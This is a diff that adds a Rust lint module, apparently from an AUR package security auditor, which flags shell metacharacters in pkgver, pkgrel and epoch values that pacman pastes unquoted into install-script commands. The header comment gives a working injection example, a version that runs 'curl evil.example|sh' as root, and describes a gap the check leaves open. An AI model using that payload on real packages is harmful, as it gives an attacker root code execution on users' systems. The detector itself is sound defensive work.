@@ -1,0 +1,165 @@
+//! The package's version as shell code (attack 29 F10). libalpm runs an install script as
+//! `sh -c ". .INSTALL; post_install VERSION"` (`trans.c` `_alpm_runscriptlet`: `". %s; %s %s"`)
+//! with `epoch:pkgver-pkgrel` pasted **unquoted** into the shell's text. Neither side stops
+//! shell code there: makepkg's `check_pkgver` forbids only whitespace, `:`, `/` and `-`, and
+//! the format itself (alpm-pkgver(7), what alpm-types implements) is any ASCII but `:/-<>=` and
+//! whitespace — so `pkgver='1;curl${IFS}evil.example|sh;true'` with a three-line harmless install
+//! file is root running `curl | sh` on install, upgrade and removal. (`pkgrel` and `epoch` are
+//! digits to makepkg's lint, checked the same here at no cost.)
+//!
+//! Class: *a value the package chooses reaches a shell's text*. The version is judged as the
+//! text pacman pastes: every `pkgver`, `pkgrel` and `epoch` the PKGBUILD assigns (anywhere: a
+//! `package()` may set it again before `.PKGINFO` is written), the `.SRCINFO`'s, and the literal
+//! text a `pkgver()` function prints. Any character that makes the shell run something there (a
+//! separator, a substitution, a subshell, a redirection) is `dangerous`; the versions real
+//! packages carry (alphanumerics and `._+~`, with `:` and `-` as the separators) have none.
+//!
+//! What a `pkgver()` computes at build from the sources (`git describe` and friends) cannot be
+//! read here: the audit does not flag it (it would make every VCS package with an install file
+//! `review`); makepkg lints the result only for `:/-` and whitespace, so a tag made of shell code
+//! would pass — left open (attack 29 F10).
+
+use super::{Ctx, Sink};
+use crate::audit::names;
+use crate::audit::report::Severity;
+use crate::audit::shell::{FileKind, Phase, Pos};
+
+const FIELDS: &[&str] = &["pkgver", "pkgrel", "epoch"];
+
+/// The first character of `v` that makes a shell reading `post_install v` run something: a
+/// command separator or operator (`;`, `|`, `&`, a newline), a subshell or substitution (`(`,
+/// `)`, a backquote — `$(…)` and `$((…))` hold a parenthesis), a redirection (`<`, `>`). Quotes,
+/// globs, braces, `$NAME`, `#` and `~` change the arguments `post_install` gets, but run
+/// nothing, and real versions hold some of them (`pkgver=${_v[-1]}` as the model leaves it).
+pub(crate) fn shell_special(v: &str) -> Option<char> {
+    v.chars()
+        .find(|&c| (c.is_ascii_control() && c != '\t') || ";|&()`<>".contains(c))
+}
+
+/// What printf prints of its format, for judging: its directives and escapes taken out (a
+/// trailing `\n` is cut by makepkg's `$(pkgver)`; one inside would be whitespace, which
+/// makepkg refuses).
+fn printed(format: &str) -> String {
+    let mut out = String::new();
+    let mut it = format.chars().peekable();
+    while let Some(c) = it.next() {
+        match c {
+            '%' => {
+                while it
+                    .peek()
+                    .is_some_and(|n| n.is_ascii_digit() || "-+ #.*'".contains(*n))
+                {
+                    it.next();
+                }
+                it.next();
+            }
+            '\\' => {
+                it.next();
+            }
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+pub(super) fn check(ctx: &Ctx, sink: &mut Sink) {
+    let has_install = ctx.an.files.iter().any(|f| f.kind == FileKind::Install)
+        || ctx
+            .an
+            .all_values("install")
+            .iter()
+            .any(|s| !s.text.is_empty());
+    let why = |field: &str, v: &str, c: char| {
+        let root = if has_install {
+            "this package has an install script, so root runs it as shell code on every install, upgrade and removal"
+        } else {
+            "this package has no install script now, but any later one (or a split package's) makes root run it as shell code"
+        };
+        format!(
+            "{field} `{v}` contains `{}`, which makes a shell run something: pacman runs install scripts as `sh -c \". .INSTALL; post_install VERSION\"` with the version pasted in unquoted — {root}",
+            c.escape_default()
+        )
+    };
+    for a in &ctx.an.assigns {
+        if a.file != 0 || !FIELDS.contains(&a.name.as_str()) {
+            continue;
+        }
+        for v in a.value.items() {
+            // An unresolved part is the model's placeholder, not the package's text: judged by
+            // the parts that were read.
+            if let Some(c) = shell_special(&v.text).filter(|_| !v.dynamic) {
+                sink.at(
+                    "AUR-VERSION-CODE",
+                    Severity::Critical,
+                    0,
+                    a.pos,
+                    &a.snippet,
+                    why(&a.name, &v.text, c),
+                );
+            }
+        }
+    }
+    // The value after the top level ran, however it was set (`printf -v pkgver`, `read`).
+    for field in FIELDS {
+        if let Some(v) = ctx.an.global_str(field)
+            && !v.dynamic
+            && let Some(c) = shell_special(&v.text)
+        {
+            let (pos, snippet) = ctx.assign_pos(field).unwrap_or_default();
+            sink.at(
+                "AUR-VERSION-CODE",
+                Severity::Critical,
+                0,
+                pos,
+                &snippet,
+                why(field, &v.text, c),
+            );
+        }
+    }
+    // The literal text a pkgver() prints (its last word is makepkg's new version).
+    for cmd in &ctx.an.cmds {
+        if cmd.phase != Phase::Pkgver || cmd.in_subst.is_some() || cmd.file != 0 {
+            continue;
+        }
+        let (prog, args) = names::program(cmd);
+        if !matches!(prog, "echo" | "printf") {
+            continue;
+        }
+        let words = args
+            .iter()
+            .filter(|w| !(w.dynamic || (prog == "echo" && w.text.starts_with('-'))));
+        for (k, w) in words.enumerate() {
+            let text = if prog == "printf" && k == 0 {
+                printed(&w.text)
+            } else {
+                w.text.clone()
+            };
+            if let Some(c) = shell_special(&text) {
+                sink.cmd(
+                    "AUR-VERSION-CODE",
+                    Severity::Critical,
+                    cmd,
+                    why("the version pkgver() prints", &w.text, c),
+                );
+            }
+        }
+    }
+    let Some(si) = &ctx.srcinfo else { return };
+    for field in FIELDS {
+        for (line, v) in si.values(field) {
+            if let Some(c) = shell_special(v) {
+                sink.add(
+                    "AUR-VERSION-CODE",
+                    Severity::Critical,
+                    ".SRCINFO",
+                    Pos {
+                        line: (*line).max(1),
+                        col: 1,
+                    },
+                    &format!("{field} = {v}"),
+                    why(field, v, c),
+                );
+            }
+        }
+    }
+}
